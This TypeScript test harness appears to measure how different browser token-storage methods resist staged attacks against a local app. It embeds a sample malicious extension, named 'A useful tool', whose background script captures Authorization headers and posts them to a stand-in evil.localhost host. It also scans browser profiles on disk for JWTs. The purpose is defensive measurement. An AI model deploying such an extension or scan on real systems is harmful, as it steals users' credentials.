import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { sleep } from "../../support/cube.js";
import type { Browser, Engine } from "../engines/engine.js";
import { makeProfile } from "../engines/engine.js";
import { type Attack, attacks } from "./attacks.js";
import { type Outcome, Scene } from "./scene.js";
import { startThreatsSite, type ThreatsSite, type World } from "./site.js";
import { type Way, ways } from "./ways.js";

/** The results of one engine: outcomes by attack and way, and the reasons for each "-". */
export interface Measured {
  version: string;
  cells: Record<string, Record<string, Outcome>>;
  notes: string[];
}

/** Chromium with the cookies of other sites, as Chrome allows by default; the others have settings of their own. */
const optionsFor = ({ certificate }: ThreatsSite) => ({ certificate, blockThirdParty: false });

type Report = (attack: string, way: string, outcome: Outcome) => void;

const inStages = (...stages: Attack["stage"][]) =>
  stages.flatMap((stage) => attacks.filter((attack) => attack.stage === stage));

/** Runs this many tasks at a time. */
async function inParallel<T>(
  count: number,
  items: readonly T[],
  run: (item: T) => Promise<void>,
): Promise<void> {
  const rest = [...items];
  await Promise.all(
    Array.from({ length: count }, async () => {
      for (let item = rest.shift(); item !== undefined; item = rest.shift()) await run(item);
    }),
  );
}

/** Runs each attack, or the selected ones, on each way to keep the token. */
export async function runThreats(
  engine: Engine,
  wanted: (attack: Attack, way: Way) => boolean = () => true,
): Promise<Measured> {
  const site = await startThreatsSite();
  const measured: Measured = { version: "", cells: {}, notes: [] };
  const report: Report = (attack, way, outcome) => {
    measured.cells[attack] ??= {};
    measured.cells[attack][way] = outcome;
  };
  const note = (text: string) => {
    if (!measured.notes.includes(text)) measured.notes.push(text);
  };

  const working: Way[] = [];
  try {
    const browser = await engine.launch(optionsFor(site));
    try {
      measured.version = browser.version || (await readVersion(browser, site));
      const jobs = ways.map((way) => async () => {
        const of = (...stages: Attack["stage"][]) =>
          inStages(...stages).filter((attack) => wanted(attack, way));
        const problem = await everyStage(browser, site, way, of, report);
        if (problem) note(`${way.title.replace("\u00ad", "")}: ${problem}`);
        else working.push(way);
      });
      await inParallel(4, jobs, (job) => job());
    } finally {
      await browser.close();
    }
    // These need a browser of their own.
    const those = (attack: Attack) => working.filter((way) => wanted(attack, way));
    await onDisk(engine, site, those, report, note);
    await withExtension(engine, site, those, report, note);
  } finally {
    site.stop();
  }
  const cells = attacks.map((attack) => {
    const row = ways.flatMap((way) =>
      wanted(attack, way) ? [[way.id, measured.cells[attack.id]?.[way.id] ?? "-"] as const] : [],
    );
    return [attack.id, Object.fromEntries(row)] as const;
  });
  return { ...measured, cells: Object.fromEntries(cells) };
}

async function readVersion(browser: Browser, site: ThreatsSite): Promise<string> {
  const tab = await browser.open(`${site.makeWorld().app}/blank`);
  const agent = await tab.run<string>("navigator.userAgent");
  await tab.close();
  return /(?:Chrome|Firefox)\/(\d+)/.exec(agent)?.[1] ?? "";
}

/**
 * Two runs of an application, with one attack after another: each stage starts afresh, or continues where the previous one
 * ended. Resolves to the reason why this way cannot be expressed, if it cannot.
 */
async function everyStage(
  browser: Browser,
  site: ThreatsSite,
  way: Way,
  of: (...stages: Attack["stage"][]) => Attack[],
  report: Report,
): Promise<string | undefined> {
  const stage = async (
    list: Attack[],
    open: (scene: Scene) => Promise<unknown>,
    tries = 3,
  ): Promise<void> => {
    const scene = new Scene(browser, site, way);
    try {
      await open(scene);
      for (const attack of list) {
        if (problem) return;
        scene.world.loot.length = 0;
        report(attack.id, way.id, await attack.run(scene));
      }
    } catch (cause) {
      // A driver sometimes loses a tab.
      if (tries > 1) return stage(list, open, tries - 1);
      throw new Error(`${way.id}, ${list.map(({ id }) => id)}: ${(cause as Error).message}`, { cause });
    } finally {
      await scene.close();
    }
  };
  let problem: string | undefined;
  await stage(of("open", "changed", "cleared", "tossed"), async (scene) => {
    problem = await openKept(scene);
  });
  const second = of("left", "first", "worker");
  if (!problem && second.length) await stage(second, (scene) => scene.open());
  return problem;
}

/** Opens the application; resolves to what is wrong with its way to keep the token, if anything. */
async function openKept(scene: Scene): Promise<string | undefined> {
  const ready = await scene.open();
  if (ready !== "ready") {
    const cookies = await scene.inside<string>(`fetch("/cookie").then((answer) => answer.text())`);
    return `the endpoint got ${cookies ? "the session's cookie" : "no cookie, and so there was no session"}: ${ready}`;
  }
  const { kept } = scene.way;
  if (kept && !(await scene.inside<boolean>(`Promise.resolve(${kept})`)))
    return "the token is not kept there";
  return undefined;
}

async function onDisk(
  engine: Engine,
  site: ThreatsSite,
  those: (attack: Attack) => Way[],
  report: Report,
  note: (text: string) => void,
) {
  const list = inStages("disk").flatMap((attack) => those(attack).map((way) => ({ attack, way })));
  if (!list.length) return;
  if (!engine.takes.includes("profile")) {
    return note(`${inStages("disk")[0]!.title}: its driver keeps nothing on disk`);
  }
  const profile = makeProfile();
  try {
    let browser = await engine.launch({ ...optionsFor(site), profile: profile.path });
    const worlds: World[] = [];
    for (const { attack, way } of list) {
      const scene = new Scene(browser, site, way);
      scene.world.noStore = attack.id === "disk-no-store";
      await scene.open();
      worlds.push(scene.world);
    }
    // Browsers write with a delay.
    await sleep(1000);
    await browser.close();
    const found = tokensIn(profile.path);
    browser = await engine.launch({ ...optionsFor(site), profile: profile.path });
    try {
      for (const [index, { attack, way }] of list.entries()) {
        const scene = new Scene(browser, site, way, worlds[index]);
        const { loot, number } = scene.world;
        loot.splice(0, Infinity, ...found.filter((token) => claimsOf(token).world === number));
        report(attack.id, way.id, await attack.run(scene));
        await scene.close();
      }
    } finally {
      await browser.close();
    }
  } finally {
    profile.remove();
  }
}

const claimsOf = (token: string): Record<string, unknown> => {
  try {
    return JSON.parse(Buffer.from(token.split(".")[1]!, "base64url").toString());
  } catch {
    return {};
  }
};

/** Anything that looks like a token in any file, with one or two bytes per character. */
function tokensIn(folder: string): string[] {
  const found = new Set<string>();
  for (const name of readdirSync(folder, { recursive: true }) as string[]) {
    const path = join(folder, name);
    const stat = statSync(path, { throwIfNoEntry: false });
    if (!stat?.isFile() || stat.size > 50e6) continue;
    const text = readFileSync(path).toString("latin1");
    for (const each of [text, text.replaceAll("\0", "")]) {
      for (const token of each.match(/eyJ[\w-]+\.[\w-]+\.[\w-]+/g) ?? []) {
        found.add(token);
      }
    }
  }
  return [...found];
}

const EXTENSION = {
  "manifest.json": JSON.stringify({
    manifest_version: 3,
    name: "A useful tool",
    version: "1.0",
    permissions: ["webRequest"],
    host_permissions: ["<all_urls>"],
    background: { service_worker: "background.js", scripts: ["background.js"] },
    browser_specific_settings: { gecko: { id: "tool@example.com" } },
  }),
  "background.js": `
    const { EXTRA_HEADERS } = chrome.webRequest.OnBeforeSendHeadersOptions;
    chrome.webRequest.onBeforeSendHeaders.addListener(
      ({ url, requestHeaders }) => {
        const [, number, port] = /app(\\d+)\\.localhost:(\\d+)\\/cubejs-api/.exec(url) ?? [];
        const body = requestHeaders.find(({ name }) => name.toLowerCase() === "authorization")?.value;
        if (body) fetch(\`https://evil\${number}.localhost:\${port}/loot\`, { method: "POST", mode: "no-cors", body });
      },
      { urls: ["<all_urls>"] },
      ["requestHeaders", ...(EXTRA_HEADERS ? [EXTRA_HEADERS] : [])],
    );
  `,
};

async function withExtension(
  engine: Engine,
  site: ThreatsSite,
  those: (attack: Attack) => Way[],
  report: Report,
  note: (text: string) => void,
) {
  const [attack] = inStages("extension") as [Attack];
  const list = those(attack);
  if (!list.length) return;
  if (!engine.takes.includes("extension"))
    return note(`${attack.title}: its driver does not support extensions`);
  const folder = mkdtempSync(join(tmpdir(), "extension-"));
  for (const [name, text] of Object.entries(EXTENSION)) writeFileSync(join(folder, name), text);
  const browser = await engine.launch({ ...optionsFor(site), extension: folder });
  try {
    for (const way of list) {
      const scene = new Scene(browser, site, way);
      await scene.open();
      report(attack.id, way.id, await attack.run(scene));
      await scene.close();
    }
  } finally {
    await browser.close();
    rmSync(folder, { recursive: true });
  }
}
